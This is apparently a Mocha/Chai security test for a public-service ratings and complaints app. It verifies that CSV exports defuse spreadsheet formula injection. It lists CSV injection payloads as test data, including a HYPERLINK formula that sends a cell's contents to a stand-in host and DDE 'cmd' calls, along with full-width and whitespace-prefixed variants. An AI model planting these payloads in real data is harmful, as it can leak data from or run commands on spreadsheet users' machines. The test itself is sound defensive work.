import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { RatingModel } from '../../server/src/domains/ratings/rating.model.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { Client } from '../helpers/client.js';
import { fileComplaint } from '../helpers/complaints.js';
import { makeDepartment, makeRating, makeWindow, staffClient } from '../helpers/fixtures.js';

// Citizens write the ratings' comments and the complaints; staff open the exports in Excel or WPS.
// No cell of any CSV export may start as a formula: each comes out behind an apostrophe, its text
// otherwise unchanged. Full-width signs (typed by a Chinese input method) and signs behind blanks
// included.
const PAYLOADS = [
  '=HYPERLINK("http://evil.test/?d="&A2,"查看详情")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  "-2+3+cmd|' /C calc'!A0",
  '＝HYPERLINK("http://evil.test")',
  '＋1+1',
  '－1+1',
  '＠SUM(A1:A9)',
  '\t=1+1',
  ' =1+1',
  '\u3000＝1+1',
];

/** The cells of a CSV export's column, header row off. */
function column(csv: string, header: string) {
  const rows: string[][] = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true });
  const at = rows[0]!.indexOf(header);
  expect(at, header).to.be.greaterThan(-1);
  return rows.slice(1).map((r) => r[at]!);
}

describe('security: formulas in CSV exports', function () {
  this.timeout(60_000);
  let app: TestApp;
  let admin: Client;

  before(async () => {
    app = await startTestApp();
    admin = await staffClient(app.url, 'ADMIN');
    const dept = await makeDepartment('GSJ');
    const window = await makeWindow('B07', dept);
    for (const [i, comment] of PAYLOADS.entries()) {
      const id = await makeRating({
        window,
        department: dept,
        level: 'DISSATISFIED',
        at: new Date(Date.UTC(2026, 10, 2, 1, i)),
      });
      await RatingModel.updateOne({ _id: id }, { comment });
    }
    const citizen = new Client(app.url);
    for (const p of PAYLOADS) await fileComplaint(citizen, { description: `${p} 窗口工作人员态度生硬。` });
  });
  after(() => app.close());

  const download = async (path: string) => {
    const res = await fetch(`${app.url}${path}`, { headers: { cookie: admin.cookie! } });
    expect(res.status, path).to.equal(200);
    return res.text();
  };
  const defused = (cells: string[], expected: string[]) => {
    expect(cells.length).to.equal(expected.length);
    for (const cell of cells) expect(cell, JSON.stringify(cell)).to.match(/^'/);
    expect(cells.map((c) => c.slice(1)).sort()).to.deep.equal([...expected].sort());
  };

  it('defuses every comment in the ratings export', async () => {
    const csv = await download('/api/ratings.csv?from=2026-11-01&to=2026-11-30');
    defused(column(csv, '意见'), PAYLOADS);
  });

  it('defuses every complaint in the complaints export, personal data included', async () => {
    const csv = await download('/api/complaints.csv?personal=1');
    defused(
      column(csv, '投诉内容'),
      // The form trims what the citizen typed, blanks in front included.
      PAYLOADS.map((p) => `${p} 窗口工作人员态度生硬。`.trim()),
    );
    // The control: ordinary text is left alone.
    expect(column(csv, '姓名').every((n) => n === '王先生')).to.equal(true);
  });
});
